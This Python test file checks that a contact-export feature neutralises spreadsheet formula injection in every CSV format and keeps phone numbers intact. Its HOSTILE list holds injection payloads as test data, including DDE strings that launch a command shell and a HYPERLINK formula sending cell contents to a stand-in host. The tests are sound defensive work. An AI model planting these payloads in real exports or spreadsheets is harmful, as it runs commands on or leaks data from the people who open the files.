"""No cell of any CSV starts a formula, whoever typed it where, and no number loses its plus."""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from data.database import Database
from data.export import guard_cell
from data.export_kinds import EXPORT_COLUMNS, ExportTool, ExportWanted, FileFormat, RowKind
from tests.data.exports import add_person, export_file, read_csv_rows
from tests.data.worlds import clear_people
from tests.factories import LONG_AGO, add_document, add_session, add_share_link, add_workspace

# Written apart from the guard: the first character that a spreadsheet looks at.
STARTS_FORMULA = re.compile(r"[\s\x00-\x20\xa0\u200b\u202e\u3000\ufeff]*[=+\-@＝＋－＠]")
E164 = re.compile(r"\+[1-9][0-9]{6,14}")
NUMBERS = ("+447700900123", "+5511955501234")
HOSTILE = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n@x",
    "  =1",
    "\u00a0=1",
    "\u200b+1",
    "\u202e-1",
    "＝1",
    "＋44",
    "－1",
    "＠x",
    "+447700900123",
    "-",
    "=",
    '=HYPERLINK("http://eve.example?x="&A1,"click")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1",
    "'=1",
    '"=1',
    "a\r\n=b",
    "x,=1",
    "Ada",
)
texts = st.sampled_from(HOSTILE) | st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1
)
PLAIN = [ExportWanted(rows=rows, columns=EXPORT_COLUMNS[rows]) for rows in RowKind]
TOOLS = [ExportWanted(tool=tool) for tool in ExportTool]
MAILING = [tool for tool in ExportTool if tool.mailing_channels]
OPTED_OUT = [ExportWanted(tool=tool, is_opted_out=True) for tool in MAILING]
EVERY_CSV = (*PLAIN, *TOOLS, *OPTED_OUT, ExportWanted(FileFormat.EXCEL_CSV))


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    db = Database(Path(tmp_path_factory.mktemp("guard")) / "gatebook.duckdb")
    yield db
    db.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Database]:
    db = Database(Path(tmp_path_factory.mktemp("hostile")) / "gatebook.duckdb")
    _fill(db, *HOSTILE)
    yield db
    db.close()


def _fill(db: Database, *texts: str) -> None:
    """People of these texts, who all came to links and documents of these names."""
    clear_people(db)
    for place, text in enumerate(texts):
        mine = (f"{text}{place}@x.example", f"+44770090{place:04}", f"+55119555{place:05}")
        add_person(db, *mine, name=text, company=text, notes=text, tags=(text,), consents=mine)
        gone = (f"{text}{place}.gone@x.example", f"+1416555{place:04}")
        add_person(db, *gone, name=text, company=text, withdrawn=gone)
        _add_visit(db, text, f"{text}{place}.came@x.example")


def _add_visit(db: Database, text: str, email: str) -> None:
    workspace = add_workspace(db, text)
    link = add_share_link(db, workspace, name=text)
    document = add_document(db, workspace, name=text)
    (visitor,) = add_person(db, email, name=text, company=text)
    add_session(db, visitor, link, LONG_AGO, documents=[document])


def _find_dangers(data: bytes) -> list[str]:
    cells = [cell for row in read_csv_rows(data) for cell in row.values()]
    return [cell for cell in cells if STARTS_FORMULA.match(cell) and not E164.fullmatch(cell)]


@pytest.mark.parametrize("wanted", EVERY_CSV)
def test_no_hostile_text_starts_a_formula_in_any_file(
    hostile: Database, wanted: ExportWanted
) -> None:
    data = export_file(hostile, wanted)
    assert len(read_csv_rows(data)) >= len(HOSTILE)
    assert _find_dangers(data) == []


@settings(max_examples=30)
@given(written=st.lists(texts, min_size=1, max_size=5), wanted=st.sampled_from(EVERY_CSV))
def test_no_text_at_all_starts_a_formula_in_any_file(
    shared: Database, written: list[str], wanted: ExportWanted
) -> None:
    _fill(shared, *written)
    assert _find_dangers(export_file(shared, wanted)) == []


@settings(max_examples=20)
@given(text=texts)
def test_whatever_was_typed_comes_back(shared: Database, text: str) -> None:
    _fill(shared, text)
    row = read_csv_rows(export_file(shared, PLAIN[0]))[0]
    for name in ("name", "company", "notes", "tags"):
        assert row[name] == guard_cell(text)
    wanted = ExportWanted(FileFormat.JSONL, columns=("name", "tags"))
    # Only a line feed ends a line.
    first = json.loads(export_file(shared, wanted).decode().split("\n")[0])
    assert first == {"name": text, "tags": [text]}


@pytest.mark.parametrize(
    ("wanted", "column"),
    [
        (ExportWanted(tool=ExportTool.HUBSPOT), "Mobile phone number"),
        (ExportWanted(tool=ExportTool.SALESFORCE_LEADS), "Mobile Phone"),
        (ExportWanted(tool=ExportTool.MAILCHIMP), "Phone Number"),
        (ExportWanted(tool=ExportTool.BREVO), "WHATSAPP"),
        (ExportWanted(tool=ExportTool.GOOGLE_CONTACTS), "Phone 1 - Value"),
        (ExportWanted(tool=ExportTool.OUTLOOK), "Mobile Phone"),
        (ExportWanted(tool=ExportTool.WHATSAPP_MYOPERATOR), "Phone"),
    ],
)
def test_every_number_is_intact_in_its_column(
    shared: Database, wanted: ExportWanted, column: str
) -> None:
    clear_people(shared)
    for place, number in enumerate(NUMBERS):
        email = f"{place}@x.example"
        add_person(shared, email, number, consents=(email, number))
    rows = read_csv_rows(export_file(shared, wanted))
    assert tuple(row[column] for row in rows) == NUMBERS


@pytest.mark.parametrize("wanted", [*TOOLS, *OPTED_OUT])
@pytest.mark.parametrize("email", ["=ada@x.example", "+ada@x.example", "-ada@x.example"])
def test_a_tool_gets_no_other_mailbox_for_one_that_begins_a_formula(
    shared: Database, wanted: ExportWanted, email: str
) -> None:
    clear_people(shared)
    mine = (email, NUMBERS[0])
    consents, withdrawn = ((), mine) if wanted.is_opted_out else (mine, ())
    add_person(shared, *mine, name="Ada", consents=consents, withdrawn=withdrawn)
    rows = read_csv_rows(export_file(shared, wanted))
    addresses = {cell for row in rows for cell in row.values() if "@" in cell}
    assert addresses == (set() if _is_of_numbers(wanted) else {f'"{email[:4]}"@x.example'})


def _is_of_numbers(wanted: ExportWanted) -> bool:
    of_numbers = {ExportTool.WHATSAPP_MYOPERATOR: True}
    of_numbers[ExportTool.WHATSAPP_INTERAKT] = wanted.is_opted_out
    return wanted.tool is not None and of_numbers.get(wanted.tool, False)


def test_every_number_is_intact_in_a_file_of_identifiers(shared: Database) -> None:
    clear_people(shared)
    add_person(shared, *NUMBERS)
    rows = read_csv_rows(export_file(shared, PLAIN[1]))
    assert tuple(row["identifier"] for row in rows) == NUMBERS
